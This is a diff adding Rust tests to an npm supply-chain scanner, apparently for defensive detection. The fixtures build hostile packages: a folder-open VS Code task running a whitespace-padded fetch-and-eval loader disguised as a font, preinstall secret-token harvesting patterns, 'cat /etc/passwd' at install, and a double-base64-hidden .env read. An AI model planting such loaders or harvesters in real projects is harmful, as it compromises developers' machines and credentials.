@@ -1990,3 +1990,195 @@ fn a_base64_webassembly_module_is_not_code_decoded_to_run() {
         report(&analysis)
     );
 }
+
+/// A VS Code task that runs on `folderOpen` starts code as soon as a developer
+/// opens the package; a script named as a font is code in disguise. Ordinary
+/// tasks and real fonts are nothing.
+#[test]
+fn an_editor_task_that_runs_a_script_named_as_a_font_is_stopped() {
+    let loader = airlock_test::PackageBuilder::new("html-blocks", "4.2.11")
+        .file(
+            ".vscode/tasks.json",
+            r#"{"version": "2.0.0", "tasks": [{"label": "eslint-check", "type": "shell",
+                "command": "node ./public/fonts/icons.woff2", "hide": true,
+                "presentation": {"reveal": "never"}, "runOptions": {"runOn": "folderOpen"}}]}"#,
+        )
+        .file(
+            "public/fonts/icons.woff2",
+            format!(
+                "{}(async () => {{ const r = await fetch(process.argv[2]); eval(await r.text()); }})();\n",
+                " ".repeat(700)
+            ),
+        )
+        .build();
+    let analysis = analyse(&loader);
+    assert_stopped(&analysis, &loader);
+    assert_rule(&analysis, "editor-autorun");
+    assert_rule(&analysis, "disguised-script");
+
+    let mut font = b"wOF2\0\x01\0\0".to_vec();
+    font.extend((0u8..=255).cycle().take(2048));
+    let ordinary = airlock_test::PackageBuilder::new("icon-kit", "2.0.0")
+        .file(
+            ".vscode/tasks.json",
+            r#"{"version": "2.0.0", "tasks": [{"label": "build", "type": "shell", "command": "npm run build"}]}"#,
+        )
+        .file("public/fonts/icons.woff2", font)
+        .file("public/logo.png", "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 10\n")
+        .file("index.js", "module.exports = { font: require('path').join(__dirname, 'public/fonts/icons.woff2') };\n")
+        .build();
+    let analysis = analyse(&ordinary);
+    assert_eq!(
+        verdict(&analysis, &ordinary),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// Patterns for many kinds of secret token run at install are a harvester's; the
+/// same list in a log redactor a program imports is its job.
+#[test]
+fn secret_token_patterns_at_install_are_a_harvester() {
+    let table = "module.exports = [/gh[op]_[A-Za-z0-9_]{36,}/g, /npm_[A-Za-z0-9]{36,}/g, /(AKIA[0-9A-Z]{16})/g, /xox[baprs]-[0-9a-zA-Z-]{10,}/g];\n";
+    let harvester = airlock_test::PackageBuilder::new("canvas-mock-kit", "2.5.3")
+        .script("preinstall", "node setup.js")
+        .file("setup.js", table)
+        .build();
+    let analysis = analyse(&harvester);
+    assert_stopped(&analysis, &harvester);
+    assert_message(&analysis, "4 kinds of secret token");
+
+    let redactor = airlock_test::PackageBuilder::new("log-redact", "1.4.0")
+        .file("index.js", table)
+        .build();
+    let analysis = analyse(&redactor);
+    assert_eq!(
+        verdict(&analysis, &redactor),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// `cat /etc/passwd` at install is recon no install needs; in a test script it
+/// runs nowhere a user installs.
+#[test]
+fn printing_the_accounts_at_install_is_stopped() {
+    let recon = airlock_test::PackageBuilder::new("themes-kit", "0.0.1")
+        .script("preinstall", "node index.js")
+        .file(
+            "index.js",
+            "const { execSync } = require('child_process');\nlet users = '';\ntry { users = execSync('cat /etc/passwd', { encoding: 'utf-8' }).trim(); } catch (e) {}\nmodule.exports = users;\n",
+        )
+        .build();
+    let analysis = analyse(&recon);
+    assert_stopped(&analysis, &recon);
+    assert_rule(&analysis, "shell-reads-accounts");
+
+    let tests = airlock_test::PackageBuilder::new("themes-kit", "0.0.2")
+        .script("test", "cat /etc/passwd | wc -l")
+        .file("index.js", "module.exports = {};\n")
+        .build();
+    let analysis = analyse(&tests);
+    assert_eq!(
+        verdict(&analysis, &tests),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// A secret store's path encoded twice (`.env` as base64 of base64) is hidden to
+/// be read unseen; a harmless word encoded the same way is nothing.
+#[test]
+fn a_secret_path_hidden_in_nested_base64_is_stopped() {
+    let hidden = airlock_test::PackageBuilder::new("aes-valid-core", "1.0.0")
+        .file(
+            "index.js",
+            "const fs = require('fs');\nconst p = Buffer.from(Buffer.from('TG1WdWRnPT0=', 'base64').toString(), 'base64').toString();\nmodule.exports = () => fs.readFileSync(p, 'utf8');\n",
+        )
+        .build();
+    let analysis = analyse(&hidden);
+    assert_stopped(&analysis, &hidden);
+    assert_message(&analysis, "hides `.env`");
+
+    // `aGVsbG8=` is base64 of `hello`, and `YUdWc2JHOD0=` base64 of that.
+    let word = airlock_test::PackageBuilder::new("aes-valid-core", "1.0.1")
+        .file(
+            "index.js",
+            "const w = Buffer.from(Buffer.from('YUdWc2JHOD0=', 'base64').toString(), 'base64').toString();\nmodule.exports = () => w;\n",
+        )
+        .build();
+    let analysis = analyse(&word);
+    assert_eq!(
+        verdict(&analysis, &word),
+        Verdict::Allow,
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// npm prepares a git dependency at install and drops an optional one that fails
+/// without a word: an optional git dependency quarantines, a required one warns.
+#[test]
+fn an_optional_git_dependency_is_stopped() {
+    let hidden = airlock_test::PackageBuilder::new("router-history", "1.161.9")
+        .field(
+            "optionalDependencies",
+            serde_json::json!({"router-setup": "github:someone/router#79ac49eedf774dd4b0cfa308722bc463cfe5885c"}),
+        )
+        .file("index.js", "module.exports = {};\n")
+        .build();
+    let analysis = analyse(&hidden);
+    assert_stopped(&analysis, &hidden);
+
+    let required = airlock_test::PackageBuilder::new("router-history", "1.161.10")
+        .dependency("router-setup", "github:someone/router#main")
+        .file("index.js", "module.exports = {};\n")
+        .build();
+    let analysis = analyse(&required);
+    assert!(
+        matches!(verdict(&analysis, &required), Verdict::Warn { .. }),
+        "{}",
+        report(&analysis)
+    );
+}
+
+/// Methods are bound by name only within one module graph: a worker script's
+/// `getEntries` that returns a download is not what a CLI's unrelated
+/// `repo.getEntries()` returns, but it is when the CLI requires the worker.
+#[test]
+fn methods_bind_by_name_only_within_a_module_graph() {
+    let worker = "class Store { async getEntries(url) { const response = await fetch(url); return response.text(); } }\nmodule.exports = Store;\n";
+    let cli = |linked: bool| {
+        format!(
+            "{}const {{ spawn }} = require('child_process');\nmodule.exports = async function branch(repo) {{ const head = await repo.getEntries('HEAD'); spawn('git', ['checkout', head]); }};\n",
+            if linked {
+                "require('./worker.js');\n"
+            } else {
+                ""
+            }
+        )
+    };
+    let unlinked = airlock_test::PackageBuilder::new("git-sidecar", "5.0.0")
+        .file("worker.js", worker)
+        .file("index.js", cli(false))
+        .build();
+    let analysis = analyse(&unlinked);
+    assert!(
+        !analysis
+            .findings
+            .iter()
+            .any(|finding| finding.message.contains("hands what it downloads")),
+        "{}",
+        report(&analysis)
+    );
+
+    let linked = airlock_test::PackageBuilder::new("git-sidecar", "5.0.1")
+        .file("worker.js", worker)
+        .file("index.js", cli(true))
+        .build();
+    let analysis = analyse(&linked);
+    assert_message(&analysis, "hands what it downloads to a process");
+}
